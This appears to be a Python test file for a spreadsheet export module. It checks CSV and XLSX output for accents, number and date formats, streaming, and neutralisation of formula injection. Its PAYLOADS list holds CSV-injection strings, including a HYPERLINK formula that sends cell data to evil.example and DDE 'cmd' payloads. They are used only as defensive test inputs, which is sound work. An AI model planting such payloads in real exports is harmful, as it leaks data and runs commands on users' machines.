"""Exports: Excel opens them with accents intact, and no cell can run as a formula."""

from __future__ import annotations

import codecs
import csv
import io
from datetime import UTC, date, datetime, time, timedelta
from decimal import Decimal
from zoneinfo import ZoneInfo

from openpyxl import load_workbook

from clientela.core.tabular import iter_csv, neutralise, open_table, write_csv, write_xlsx

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Haga clic")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]
HEADERS = ["Nombre", "Nota", "Saldo", "Deuda", "Nacimiento", "Alta", "Activo", "Etiquetas"]


def rows():
    """A generator, like a queryset iterator: exports must not need a list."""
    yield ["José Núñez", PAYLOADS[0], Decimal("1234.50"), -250, date(1985, 3, 12),
           datetime(2024, 1, 2, 10, 30), True, ["vip", "bogotá"]]  # fmt: skip
    for payload in PAYLOADS[1:]:
        yield ["Ana", payload, -3.25, Decimal("-0.5"), None, None, False, ()]


def test_it_neutralises_formula_text():
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("-2+3") == "'-2+3"
    assert neutralise("@SUM(1)") == "'@SUM(1)"
    assert neutralise("José") == "José"
    assert neutralise("a=b") == "a=b"


def test_it_writes_csv_with_bom_semicolons_and_decimal_commas():
    out = io.BytesIO()

    count = write_csv(rows(), HEADERS, out)
    data = out.getvalue()

    assert count == len(PAYLOADS)
    assert data.startswith(codecs.BOM_UTF8)
    lines = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert lines[0] == HEADERS
    assert lines[1] == [
        "José Núñez",
        "'" + PAYLOADS[0],
        "1234,50",
        "-250",
        "1985-03-12",
        "2024-01-02 10:30:00",
        "true",
        "vip, bogotá",
    ]
    assert [line[1] for line in lines[1:]] == ["'" + p for p in PAYLOADS]
    assert lines[2][2:4] == ["-3,25", "-0,5"]  # real numbers keep their minus sign
    assert lines[2][4:7] == ["", "", "false"]
    assert data.count(b"\r\n") == len(PAYLOADS) + 1


def test_it_writes_comma_csv_with_decimal_points():
    out = io.BytesIO()

    write_csv(
        [[Decimal("1.5"), 2.25, 1e-7, float("nan")]], ["a", "b", "c", "d"], out, delimiter=","
    )

    assert out.getvalue().decode("utf-8-sig").splitlines()[1] == "1.5,2.25,0.0000001,"


def test_it_converts_aware_datetimes_to_the_given_zone():
    moment = datetime(2024, 3, 15, 15, 30, tzinfo=UTC)
    bogota = ZoneInfo("America/Bogota")

    as_csv = b"".join(iter_csv([[moment]], ["t"], tz=bogota)).decode("utf-8-sig")
    own_zone = b"".join(iter_csv([[moment]], ["t"])).decode("utf-8-sig")

    assert as_csv.splitlines()[1] == "2024-03-15 10:30:00"
    assert own_zone.splitlines()[1] == "2024-03-15 15:30:00+00:00"


def test_it_streams_csv_in_chunks_from_a_generator():
    consumed = []

    def many():
        for i in range(20_000):
            consumed.append(i)
            yield [i, f"contacto {i}", "Bogotá"]

    chunks = iter_csv(many(), ["id", "nombre", "ciudad"])
    first = next(chunks)
    second = next(chunks)

    assert first.startswith(codecs.BOM_UTF8) and first.endswith(b"ciudad\r\n")
    assert 60_000 < len(second) < 70_000
    assert len(consumed) < 5_000  # only what the chunk needed was pulled
    rest = b"".join(chunks)
    assert len(consumed) == 20_000
    assert (first + second + rest).count(b"\r\n") == 20_001


def test_it_reads_its_own_csv_back():
    out = io.BytesIO()
    write_csv(rows(), HEADERS, out)

    table = open_table(out.getvalue())
    records = list(table)

    assert table.encoding == "utf-8-sig"
    assert table.delimiter == ";"
    assert table.headers == HEADERS
    assert records[0].values["Nombre"] == "José Núñez"
    assert records[0].values["Nota"] == "'" + PAYLOADS[0]
    assert [r.line for r in records] == list(range(2, 2 + len(PAYLOADS)))


def test_it_writes_xlsx_with_real_numbers_dates_and_neutralised_text(tmp_path):
    path = tmp_path / "export.xlsx"

    count = write_xlsx(rows(), HEADERS, path, sheet_title="Contactos: enero/2024")

    assert count == len(PAYLOADS)
    workbook = load_workbook(path)
    sheet = workbook.active
    assert sheet.title == "Contactos  enero 2024"
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0] == HEADERS
    assert sheet["A1"].font.bold
    assert sheet.freeze_panes == "A2"
    first = values[1]
    assert first[:4] == ["José Núñez", "'" + PAYLOADS[0], 1234.5, -250]
    assert first[4] == datetime(1985, 3, 12)
    assert sheet["E2"].number_format == "dd/mm/yyyy"
    assert first[5] == datetime(2024, 1, 2, 10, 30)
    assert sheet["F2"].number_format == "dd/mm/yyyy hh:mm:ss"
    assert first[6:] == [True, "vip, bogotá"]
    # XML turns a stored carriage return into a newline; the apostrophe is what matters.
    assert [row[1] for row in values[1:]] == ["'" + p.replace("\r", "\n") for p in PAYLOADS]
    # No cell anywhere was stored as a formula.
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert [row[2:4] for row in values[2:3]] == [[-3.25, -0.5]]


def test_it_writes_xlsx_to_a_stream_and_keeps_long_ids_exact():
    out = io.BytesIO()
    moment = datetime(2024, 3, 15, 15, 30, tzinfo=UTC)

    write_xlsx(
        [[12345678901234567890, "bad\x00\x07char", moment, time(9, 30), timedelta(hours=2)]],
        ["id", "texto", "hora", "reloj", "duración"],
        out,
        tz=ZoneInfo("America/Bogota"),
    )

    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    assert sheet["A2"].value == "12345678901234567890"
    assert sheet["B2"].value == "badchar"
    assert sheet["C2"].value == datetime(2024, 3, 15, 10, 30)
    assert sheet["D2"].value == time(9, 30)


def test_it_reads_its_own_xlsx_back():
    out = io.BytesIO()
    write_xlsx(rows(), HEADERS, out)

    table = open_table(out.getvalue())
    records = list(table)

    assert table.format == "xlsx"
    assert table.headers == HEADERS
    assert records[0].values["Nacimiento"] == "1985-03-12"
    assert records[0].values["Alta"] == "2024-01-02 10:30:00"
    assert records[0].values["Saldo"] == "1234.5"
    assert records[0].values["Activo"] == "true"
    assert [r.line for r in records] == list(range(2, 2 + len(PAYLOADS)))
